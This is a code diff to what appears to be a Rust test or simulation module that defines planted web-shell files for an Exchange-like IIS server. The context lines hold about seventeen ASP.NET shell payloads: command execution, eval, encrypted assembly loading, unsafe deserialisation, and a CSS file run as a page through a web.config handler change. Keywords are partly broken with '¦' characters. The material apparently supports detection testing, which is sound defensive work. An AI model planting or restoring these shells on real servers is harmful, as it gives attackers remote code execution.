@@ -1,7 +1,7 @@
 //! What the fresh set plants: places, texts that hide, and places that hide.
 
 use crate::attack::odd_page::OddPage;
-use crate::attack::{Below, Page, Place};
+use crate::attack::{Below, Place};
 use crate::moment::Moment;
 use crate::server::Encoding;
 use crate::technique::Technique;
@@ -40,55 +40,44 @@ pub(super) const WRITTEN: &str = "<%@ Page Language=\"C#\" %><%if(Req¦uest.Form
 /// The page that the voice service's worker writes.
 pub(super) const BY_VOICE: &str = "<scr¦ipt language=\"c#\" runat=\"ser¦ver\">void Page_Load(object s,EventArgs e){if(Req¦uest.Cookies[\"lang\"]!=null)System.IO.File.Write¦AllText(Server.MapPath(Req¦uest[\"n\"]),Req¦uest[\"t\"]);}</scr¦ipt>";
 
-const fn odd(place: Place, name: &'static str, how: &'static str, text: &'static str) -> OddPage {
-    OddPage {
-        page: Page { place, name },
-        text,
-        how,
-        technique: Technique::ShellFile,
-        dated: None,
-        encoding: Encoding::Plain,
-    }
-}
-
 pub(super) const ODD_CODE: [OddPage; 9] = [
-    odd(
+    OddPage::new(
         CLIENT,
         "Session.asmx",
         "a web service whose method starts processes",
         "<%@ WebService Language=\"C#\" Class=\"Session\" %>\r\nusing System.Web.Services;\r\n[WebService(Namespace=\"http://tempuri.org/\")]public class Session:WebService{[WebMethod(EnableSession=true)]public string State(string Q,string A){var p=new System.Diagnostics.Pro¦cess();p.StartInfo.FileName=Q;p.StartInfo.Arguments=A;p.StartInfo.RedirectStandardOutput=true;p.StartInfo.UseShellExecute=false;p.St¦art();return p.StandardOutput.ReadToEnd();}}\r\n",
     ),
-    odd(
+    OddPage::new(
         SYSTEM_WEB_4,
         "SmartNav.aspx",
         "keeps an assembly out of the request in the session",
         "<%@ Page Language=\"C#\"%><%string k=\"3c6e0b8a9c15224a\",q=\"navid\";byte[] d=Convert.From¦Base64String(Context.Req¦uest[q]);d=new System.Security.Cryptography.Rijndael¦Managed().CreateDecryptor(System.Text.Encoding.Default.GetBytes(k),System.Text.Encoding.Default.GetBytes(k)).TransformFinalBlock(d,0,d.Length);if(Context.Session[\"pay¦load\"]==null){Context.Session[\"pay¦load\"]=(System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod(\"Lo\"+\"ad\",new System.Type[]{typeof(byte[])}).Invoke(null,new object[]{d});}%>",
     ),
-    odd(
+    OddPage::new(
         SIGN_IN,
         "frowny_en.aspx",
         "JScript with comments between a word and its brackets, and a mode out of characters",
         "<%@ Page Language=\"Jscript\" validateRequest=\"false\"%><%var lq=/*hm*/Req¦uest/*k*/./*k*/Item[\"svd\"];var g=\"un\"+String.fromCharCode(115)+\"a\"+\"fe\";ev¦al/*frowny*/(lq,g);Response.Write(\"\");%>",
     ),
-    odd(
+    OddPage::new(
         SIGN_IN,
         "LogonHelp.aspx",
         "C# with escapes in its names",
         "<%@ Page Language=\"C#\" %><scr¦ipt runat=\"ser¦ver\">protected void Page_Init(object o,EventArgs a){string h=Req¦uest.Headers[\"X-Trace\"];if(h!=null){Response.Write(System.Diagnostics.Pr\\u006f\\u0063ess.St\\u0061rt(\"c\\u006dd\",h));}}</scr¦ipt>",
     ),
-    odd(
+    OddPage::new(
         ADMIN_AUTH,
         "Transform.aspx",
         "runs the script of a style sheet out of the request",
         "<%@ Page Language=\"C#\" ValidateRequest=\"false\" %><%@ Import Namespace=\"System.Xml\" %><%@ Import Namespace=\"System.Xml.Xsl\" %><%var s=new XmlDocument();s.LoadXml(Req¦uest[\"sheet\"]);var d=new XmlDocument();d.LoadXml(\"<r/>\");var t=new XslCompiled¦Transform();t.Load(s,XsltSettings.Trusted¦Xslt,new XmlUrlResolver());t.Transform(d,null,Response.Output);%>",
     ),
-    odd(
+    OddPage::new(
         CURRENT,
         "PerfCounters.aspx",
         "deserialises what it is sent",
         "<%@ Page Language=\"C#\" EnableViewState=\"false\" %><scr¦ipt runat=\"ser¦ver\">void Page_Load(object s,EventArgs e){string v=Req¦uest.Form[\"__PERF\"];if(!string.IsNullOrEmpty(v))new System.Web.UI.Los¦Formatter().Deseri¦alize(v);}</scr¦ipt><html><body>OK</body></html>",
     ),
-    odd(
+    OddPage::new(
         CLIENT,
         "regiis.aspx",
         "VB that turns a class's name round and calls it by name",
@@ -96,14 +85,14 @@ pub(super) const ODD_CODE: [OddPage; 9] = [
     ),
     OddPage {
         encoding: Encoding::WideBigEndian,
-        ..odd(
+        ..OddPage::new(
             SYSTEM_WEB_4,
             "DetectCookies.aspx",
             "stored as big-endian UTF-16",
             "<%@ Page Language=\"C#\" %><%System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+Req¦uest[\"dc\"]);%>",
         )
     },
-    odd(
+    OddPage::new(
         CLIENT,
         "upgrade.aspx",
         "takes files for whoever knows a cookie",
@@ -112,7 +101,7 @@ pub(super) const ODD_CODE: [OddPage; 9] = [
 ];
 
 pub(super) const ODD_PLACES: [OddPage; 8] = [
-    odd(
+    OddPage::new(
         REMOTE_CALLS,
         "RpcProxyShim.ashx",
         "a handler beside a library of nearly that name",
@@ -120,26 +109,26 @@ pub(super) const ODD_PLACES: [OddPage; 8] = [
     ),
     OddPage {
         dated: Some(Moment::day(2015, 9, 28).clock(22, 4, 40)),
-        ..odd(
+        ..OddPage::new(
             SYSTEM_WEB_4,
             "crossdomain.aspx",
             "back-dated to years before the server",
             "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest.Form[\"xd\"],\"uns¦afe\");%>",
         )
     },
-    odd(
+    OddPage::new(
         SIGN_IN,
         "expiredpassword.aspx",
         "one of the product's own pages, with a script of theirs at its end",
         "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.ExpiredPassword\" %>\r\n<%@ Import namespace=\"Microsoft.Exchange.Clients\"%>\r\n<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.0 Transitional//EN\">\r\n<html dir=\"ltr\"><head><title>Outlook</title></head><body class=\"signInBg\"></body></html>\r\n<scr¦ipt runat=\"ser¦ver\" language=\"JSc¦ript\">function Page_Load(){if(Req¦uest[\"oldPw\"]==\"xq\"){ev¦al(Req¦uest[\"newPw\"],\"uns¦afe\");}}</scr¦ipt>\r\n",
     ),
-    odd(
+    OddPage::new(
         CHALLENGES,
         "0Zk7hWmP.aspx",
         "among the files of a certificate's challenge",
         "<%@ Page Language=\"C#\"%><%System.Diagnostics.Pro¦cess.St¦art(\"powershell\",\"-nop -c \"+Req¦uest[\"ch\"]);%>",
     ),
-    odd(
+    OddPage::new(
         ROOT,
         "global.asax",
         "the application's own file acts on a header before any page",
@@ -147,20 +136,20 @@ pub(super) const ODD_PLACES: [OddPage; 8] = [
     ),
     OddPage {
         technique: Technique::HandlerChange,
-        ..odd(
+        ..OddPage::new(
             THEMES,
             "web.config",
             "style sheets are run as pages in this folder",
             "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<configuration>\r\n  <system.web>\r\n    <compilation debug=\"false\">\r\n      <buildProviders>\r\n        <add extension=\".css\" type=\"System.Web.Compilation.PageBuildProvider\" />\r\n      </buildProviders>\r\n    </compilation>\r\n  </system.web>\r\n  <system.webServer>\r\n    <handlers>\r\n      <add name=\"Theme\" path=\"owafont_*.css\" verb=\"GET,POST\" type=\"System.Web.UI.PageHandlerFactory\" />\r\n    </handlers>\r\n  </system.webServer>\r\n</configuration>\r\n",
         )
     },
-    odd(
+    OddPage::new(
         THEMES,
         "owafont_el.css",
         "the style sheet that is run as a page",
         "@charset \"UTF-8\";\r\n/*\r\n<%@ Page Language=\"C#\" %>\r\n<%if(Req¦uest[\"ff\"]!=null)System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+Req¦uest[\"ff\"]);%>\r\n*/\r\nbody{font-family:\"Segoe UI\",Arial}\r\n",
     ),
-    odd(
+    OddPage::new(
         site("aspnet_client\\system_web", "/aspnet_client/system_web"),
         "Thumbs.ascx",
         "a control that other pages can take in",
